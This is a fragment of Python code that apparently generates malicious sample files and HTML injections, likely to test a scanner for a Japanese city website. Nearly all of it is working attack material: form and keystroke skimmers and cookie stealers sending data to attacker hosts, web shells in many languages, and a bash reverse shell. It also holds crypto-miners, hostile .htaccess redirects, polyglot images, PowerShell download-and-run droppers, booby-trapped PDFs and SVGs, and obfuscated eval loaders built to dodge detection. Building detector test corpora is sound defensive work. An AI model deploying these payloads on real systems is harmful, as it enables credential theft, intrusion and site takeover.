            ("body", "<script>setInterval(function(){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});fetch('https://%s/k',{method:'POST',mode:'no-cors',body:JSON.stringify(d)})},5000)</script>" % h),
            ("body", "<script>document.onkeypress=function(e){var x=new XMLHttpRequest();x.open('POST','https://%s/k');x.send(e.key)}</script>" % h),
            ("body", "<script>new Image().src='//%s/c.php?c='+encodeURIComponent(document.cookie)</script>" % h),
            ("body", "<script>var w=new WebSocket('wss://%s/s');document.querySelectorAll('input').forEach(function(n){n.addEventListener('input',function(){w.send(n.name+n.value)})})</script>" % h),
            ("body", "<script>jQuery('form').on('submit',function(){$.post('https://%s/f',$(this).serialize())})</script>" % h)])

    @family
    def css_leak(rng):
        h = host(rng)
        return rng.choice([("head", "<style>%s</style>" % "".join('input[name=csrf][value^="%s"]{background:url(https://%s/?%s)}' % (c, h, c) for c in "abcdef0")), ("head", "<style>@import url('https://%s/c.css');</style>" % h),
                           ("head", '<link rel="stylesheet" href="https://%s/c.css">' % h), ("file", ("css/print.css", ("body{color:#000}\n@import '//%s/x.css';\ndiv{behavior:url(https://%s/x.htc)}" % (h, h)).encode()))])

    @family
    def miner(rng): return "body", rng.choice(['<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("k").start()</script>', "<script>var w=new Worker(URL.createObjectURL(new Blob(['importScripts(\"https://%s/cn.js\")'])));w.postMessage({pool:'wss://%s/',threads:navigator.hardwareConcurrency})</script>" % (host(rng), host(rng)),
                                               '<script src="https://www.hostingcloud.racing/a.js"></script><script>var _client=new Client.Anonymous("0fc", {throttle:0.2});_client.start();</script>'])

    # --- encodings --------------------------------------------------------------------------------------------------
    def encoded(rng, name, label, errors="xmlcharrefreplace"):
        from page import page
        text = page(rng, body='<script src="https://%s/e.js"></script><iframe src="https://%s/" width=0 height=0></iframe>' % (host(rng), host(rng)), charset=label)
        return "file", ("enc-%s.html" % label.replace("_", "-"), text.encode(name, errors))

    @family
    def utf16(rng): return encoded(rng, rng.choice(["utf-16", "utf-16-le"]) if False else "utf-16", "utf-16")
    @family
    def utf16_without_mark(rng): return encoded(rng, rng.choice(["utf-16-le", "utf-16-be"]), "utf-16")
    @family
    def shift_jis(rng): return encoded(rng, "cp932", "Shift_JIS")
    @family
    def euc_jp(rng): return encoded(rng, "euc_jp", "EUC-JP")
    @family
    def iso_2022_jp(rng): return encoded(rng, "iso2022_jp", "ISO-2022-JP")
    @family
    def iso_2022_jp_hidden(rng):
        # In ISO-2022-JP an escape inside a tag name hides it from byte scanners.
        return "file", ("jis.html", b'<html><head><meta charset="iso-2022-jp"></head><body>\x1b$B;TLr=j\x1b(B<scr\x1b(Bipt src="https://%s/a.js"></script></body></html>' % host(rng).encode())
    @family
    def utf7(rng): return "file", ("u7.html", b'<html><head><meta charset="utf-7"></head><body>+ADw-script src=https://%s/a.js+AD4APA-/script+AD4-</body></html>' % host(rng).encode())
    @family
    def nul_bytes(rng): return "file", ("nul.html", b'<html><body><p>x</p><sc\0ript src="https://%s/a.js"></sc\0ript></body></html>' % host(rng).encode())

    # --- files ------------------------------------------------------------------------------------------------------
    @family
    def php_shell(rng): return "file", (rng.choice(["img/thumb.php", "css/style.php", "wp-conf.php", "a/index.php", "x.phtml", "images/cache.php5", "up.pHp"]), rng.choice([
        b"<?php @eval($_POST['x']);?>", b"<?php system($_GET[c]);", b"<?php $a='ass'.'ert';$a($_REQUEST['q']);", b"<?php eval(gzinflate(base64_decode('S0lNVqjm')));", b"<?=`$_GET[0]`?>",
        b"<?php if(move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']))echo 'ok';?><form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>",
        b"<?php\n/* Template */\nfunction get_page(){return file_get_contents('http://x/'.$_SERVER['HTTP_HOST']);}\necho get_page();"]))
    @family
    def other_shells(rng): return "file", rng.choice([
        ("a.jsp", b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'), ("x.asp", b'<%eval request("c")%>'), ("x.aspx", b'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", Request["c"]); %>'),
        ("cgi-bin/t.pl", b"#!/usr/bin/perl\nuse CGI;print \"Content-type: text/html\\n\\n\";print `$ENV{QUERY_STRING}`;"), ("cgi-bin/x.py", b"#!/usr/bin/env python3\nimport cgi,os\nf=cgi.FieldStorage()\nprint('Content-Type: text/plain\\n')\nos.system(f['c'].value)"),
        ("s.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1"), ("index.shtml", b"<html><!--#exec cmd=\"id\" --></html>"), ("c.cgi", b"#!/bin/sh\necho Content-type: text/plain; echo; eval $QUERY_STRING"),
        ("n.js", b"const{exec}=require('child_process');require('http').createServer((q,r)=>{exec(q.url.slice(1),(e,o)=>r.end(o))}).listen(8080)"), ("x.cfm", b"<cfexecute name=\"cmd.exe\" arguments=\"/c #url.c#\"></cfexecute>"),
        ("upload.php.jpg", b"\xff\xd8\xff\xe0<?php system($_GET['c']);?>"), ("r.rb", b"#!/usr/bin/ruby\nrequire 'cgi'\nputs `#{CGI.new['c']}`"), ("h.ashx", b"<%@ WebHandler Language=\"C#\" Class=\"H\" %>using System.Web;public class H:IHttpHandler{public void ProcessRequest(HttpContext c){System.Diagnostics.Process.Start(c.Request[\"c\"]);}}")])
    @family
    def php_in_page(rng): return "body", rng.choice(["<?php include('http://%s/a.txt'); ?>", "<?php @include \"/tmp/.%s.ico\"; ?>", "<script language=\"php\">eval($_POST['%s']);</script>"]) % host(rng)
    @family
    def server_config(rng):
        h = host(rng)
        return "file", rng.choice([
            (".htaccess", b"RewriteEngine On\nRewriteCond %%{HTTP_REFERER} (google|yahoo) [NC]\nRewriteRule ^(.*)$ https://%s/ [R=302,L]\n" % h.encode()), (".htaccess", b"AddType application/x-httpd-php .jpg .png\n"), (".htaccess", b"AddHandler cgi-script .txt\nOptions +ExecCGI\n"),
            (".user.ini", b"auto_prepend_file=/tmp/.x.png\n"), (".htaccess", b"php_value auto_append_file \"/tmp/a\"\n"), (".htaccess", b"ErrorDocument 404 https://%s/404\n" % h.encode()), ("sub/.htaccess", b"RewriteEngine on\nRewriteCond %%{HTTP_USER_AGENT} (Googlebot|bingbot)\nRewriteRule ^ index2.php [L]\n" % ()),
            (".htaccess", b"AddOutputFilterByType SUBSTITUTE text/html\nSubstitute \"s|</body>|<script src=//%s/a.js></script></body>|i\"\n" % h.encode()), ("web.config", b'<configuration><system.webServer><handlers><add name="x" path="*.jpg" verb="*" modules="FastCgiModule" scriptProcessor="php-cgi.exe"/></handlers></system.webServer></configuration>'),
            (".htaccess", b"<FilesMatch \"\\.ico$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"), (".htaccess", b"Header always set Refresh \"0; url=https://%s/\"\n" % h.encode()), (".htaccess", b"Redirect 301 / https://%s/\n" % h.encode()), (".htaccess", b"RedirectMatch 302 .* https://%s/\n" % h.encode()), (".htaccess", b"FallbackResource /img/a.php\nDirectoryIndex logo.jpg index.html\n")])
    @family
    def polyglot_image(rng): return "file", rng.choice([("img/p.gif", b"GIF89a<?php eval($_POST['x']);?>"), ("img/p.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\0" * 40 + b"<?php system($_GET['c']); ?>\xff\xd9"), ("img/p.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(17) + b"\0\0\0\0IEND\xaeB`\x82<script src=https://x.xyz/a.js></script>"),
                                                        ("favicon.ico", b"<?php $v=\"b\".\"ase64_decode\";eval($v('ZWNobyAx'));"), ("img/g.gif", b"GIF89a/*" + b"\0" * 8 + b"*/=1;var s=document.createElement('script');s.src='//x.top/a.js';document.body.appendChild(s);"), ("img/x.jpg", b"<html><script>location='https://x.icu'</script></html>"), ("img/e.jpg", b"MZ\x90\0" + bytes(56) + b"\x40\0\0\0This program cannot be run in DOS mode"), ("font/a.woff", b"<?php @eval($_COOKIE['z']);")])
    @family
    def double_extension(rng): return "file", rng.choice([("files/moushikomi.pdf.exe", b"MZ\x90\0" + bytes(100)), ("files/annai.doc.js", b"var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c calc')"), ("files/a.jpg.php", b"<?php echo 1;"), ("files/請求書.pdf.lnk".encode().decode(), b"L\0\0\0\1\x14\2\0" + bytes(60)), ("files/tsuchi\u202efdp.exe", b"MZ\x90\0" + bytes(100)), ("files/nouzei.pdf.scr", b"MZ\x90\0" + bytes(100)), ("files/x.pdf.vbs", b"CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iex(iwr x)\"")])
    @family
    def dropped_program(rng):
        def zipped(*members):
            data = io.BytesIO()
            with zipfile.ZipFile(data, "w") as archive:
                for name, body in members:
                    archive.writestr(name, body)
            return data.getvalue()
        return "file", rng.choice([("files/setup.exe", b"MZ\x90\0" + bytes(200)), ("files/doc.zip", zipped(("doc.pdf.exe", b"MZ\x90\0" + bytes(100)))), ("files/inv.zip", zipped(("inv.js", b"WScript.CreateObject('WScript.Shell').Run('powershell')"))), ("files/a.hta", b"<hta:application/><script>new ActiveXObject('WScript.Shell').Run('powershell')</script>"),
                                   ("files/youshiki.docx", zipped(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<d/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(50)))), ("files/y.docx", zipped(("word/document.xml", "<d/>"), ("word/_rels/settings.xml.rels", '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://x.xyz/t.dotm" TargetMode="External"/>'))), ("files/k.zip", zipped(("k.lnk", b"L\0\0\0\1\x14\2\0" + bytes(60)))), ("files/p.ps1", b"IEX (New-Object Net.WebClient).DownloadString('https://x.xyz/a')"), ("files/app.apk", zipped(("AndroidManifest.xml", b"\3\0\x08\0"), ("classes.dex", b"dex\n035\0")))])
    @family
    def svg(rng):
        h = host(rng)
        return "file", ("img/i.svg", rng.choice(['<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://%s"</script></svg>', '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://%s/?\'+document.cookie)"/>', '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://%s/"></iframe></foreignObject></svg>', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:location=\'https://%s\'"><text y="20">x</text></a></svg>', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="https://%s/s.js"/></svg>', '<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" values="javascript:location=\'https://%s\'"/></svg>', '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="location=\'https://%s\'"/></svg>']) .__mod__(h).encode())
    @family
    def pdf(rng): return "file", ("files/d.pdf", rng.choice([b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\('https://x.xyz'\\))>>>>endobj\n%%EOF", b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Open#41ction<</S/J#61vaScript/JS(eval\\(x\\))>>>>endobj\n%%EOF", b"%PDF-1.4\n1 0 obj<</Type/Catalog/AA<</O<</S/URI/URI(https://x.xyz)>>>>/OpenAction<</S/URI/URI(https://x.xyz/a)>>>>endobj\n%%EOF"]))
    @family
    def infected_library(rng):
        body = "/*! jQuery v3.7.1 | (c) OpenJS Foundation */\n" + "!function(e,t){'use strict';var n=[];function r(a){return n.slice.call(a)}}(window);\n" * 40
        return "file", ("js/lib.js", (rng.choice(["%s;eval(atob('%s'));" % (body, b64(payload(rng))), "%s\n%s" % (payload(rng), body), body + " " * 400 + payload(rng), body + pack(payload(rng)), body + "\nvar _0x1=document.createElement('script');_0x1.src='https://%s/q.js';document.head.appendChild(_0x1);" % host(rng)])).encode())
    @family
    def svg_inline(rng): return "body", "<svg><script>%s</script></svg>" % payload(rng)
    @family
    def math_mutation(rng): return "body", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=location=\'https://%s\'&gt;" src=x onerror="location=\'https://%s\'">' % (host(rng), host(rng))
    @family
    def fake_verification(rng): return "file", ("google1a2b3c4d5e6f7a8b.html", b"google-site-verification: google1a2b3c4d5e6f7a8b.html")
    @family
    def other_measurement(rng): return "head", '<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-EVIL99X"></script>'
    @family
    def tampered_text_link(rng): return "body", '<p><a href="https://%s/">%s</a></p>' % (rng.choice(["www.city.momiji.lg.jp.renewal-info.com", "www.city.rnomiji.lg.jp.net", "www.city.momiji.lg.jp@203.0.113.9", "www.citу.momiji.lg.jp"]), "新しい申請ページはこちら")
    @family
    def user_info_link(rng): return "body", '<p><a href="https://www.city.momiji.lg.jp:login@%s/">ログインはこちら</a></p>' % host(rng)

    # --- the same ideas in other hands -----------------------------------------------------------------------------
    @family
    def other_ways_to_run(rng):
        h = host(rng)
        go = "location='https://%s/'" % h
        return scripted(rng.choice([
            "var a=atob;var f=self[a('%s')];f(a('%s'))" % (b64("eval"), b64(go)), "Object.defineProperty(window,'q',{get(){return Function}});q(atob('%s'))();" % b64(go),
            "[].filter.constructor('return this')().eval(unescape('%s'))" % pct(go), "const s=document.createElement('script');s.textContent=atob('%s');document.body.append(s)" % b64(go),
            "Reflect.apply(eval,null,[atob('%s')])" % b64(go), "setTimeout(\"%s\",100)" % go, "top[atob('%s')]=atob('%s')" % (b64("location"), b64("https://%s/" % h)),
            "var h='%s',s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(s);" % go.encode().hex(),
            "let k='secretkey',d=[%s],r='';for(let i=0;i<d.length;i++){r+=String.fromCharCode(d[i]^k.charCodeAt(i%%k.length))}eval(r)" % ",".join(str(ord(c) ^ ord("secretkey"[i % 9])) for i, c in enumerate(go)),
            "location.href='http://'+String.fromCharCode(%s)" % codes(h), "document['write']('\\u003Cscript src=\\u0022https://%s/a.js\\u0022\\u003E\\u003C/script\\u003E')" % h]), rng)

    @family
    def shown_foreign_content(rng):
        h = host(rng)
        return "body", rng.choice(["<script>fetch('https://%s/cfg.json').then(r=>r.json()).then(c=>{document.body.innerHTML+=c.html})</script>", '<object type="text/x-scriptlet" data="https://%s/x"></object>', '<embed src="https://%s/x.swf" allowscriptaccess="always">',
                                   "<div onmouseover=\"location.href='https://%s'\" style=\"position:fixed;top:0;left:0;width:100%%;height:100%%\"></div>", "<script>Array.from(document.links).forEach(a=>a.href='https://%s/?u='+a.href)</script>", '<button form="contact" formaction="https://%s/steal">送信</button>',
                                   "<script>var o=document.createElement('object');o.data='https://%s/';o.width=o.height=0;document.body.appendChild(o)</script>", '<a href="JaVaScRiPt:void(location=\'https://%s\')">x</a>']) % h

    @family
    def unusual_channels(rng):
        h = host(rng)
        packed = base64.b64encode(b"PK\3\4\24\0\0\0\10\0" + bytes(rng.randrange(256) for _ in range(200))).decode()
        return rng.choice([
            ("head", '<link rel="amphtml" href="https://%s/amp/">' % h), ("after", "<img src='https://%s/log?" % h),
            ("tail", "<script>var p=new RTCPeerConnection({iceServers:[{urls:'stun:%s:3478'}]});p.createDataChannel(document.cookie);p.createOffer().then(function(o){p.setLocalDescription(o)})</script>" % h),
            ("tail", '<script src="https://accounts.google.com/o/oauth2/revoke?callback=eval(atob(%27YWxlcnQoMSk%27))"></script>'),
            ("body", "<script>var d='%s',a=atob(d),u=new Uint8Array(a.length);for(var i=0;i<a.length;i++)u[i]=a.charCodeAt(i);var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([u]));l.download='shinsei.zip';l.click();</script>" % packed),
            ("body", '<a href="java\tscript:location=\'https://%s\'">詳細</a>' % h),
            ("body", '<iframe src="https://%s/a" style="position:fixed;z-index:-999;top:0"></iframe>' % h),
            ("tail", "<script>eval(localStorage.getItem('_cfg')||'');</script>"),
            ("tail", "<script>fetch('/img/logo.txt').then(r=>r.text()).then(t=>Function(t)())</script>"),
            ("tail", "<script>var x=new XMLHttpRequest();x.open('GET','/img/l.dat');x.onload=function(){(0,eval)(x.responseText)};x.send()</script>")])

    @family
    def scripted_claims(rng): return "body", rng.choice(["<script>document.title='HACKED';document.body.innerHTML='<h1>Hacked by Cyber Team</h1><p>Your security is weak</p>';</script>", "<script>window.onbeforeunload=()=>'';setInterval(()=>alert('ウイルスが検出されました。050-1234-5678に電話してください'),1000);</script>"])

    @family
    def sitemap_spam(rng): return "file", ("sitemap-%d.xml" % rng.randint(1, 99), ("<?xml version='1.0'?><urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>%s</urlset>" % "".join("<url><loc>https://www.city.momiji.lg.jp/casino/%d.html</loc></url>" % n for n in range(rng.randint(3, 30)))).encode())

    return table
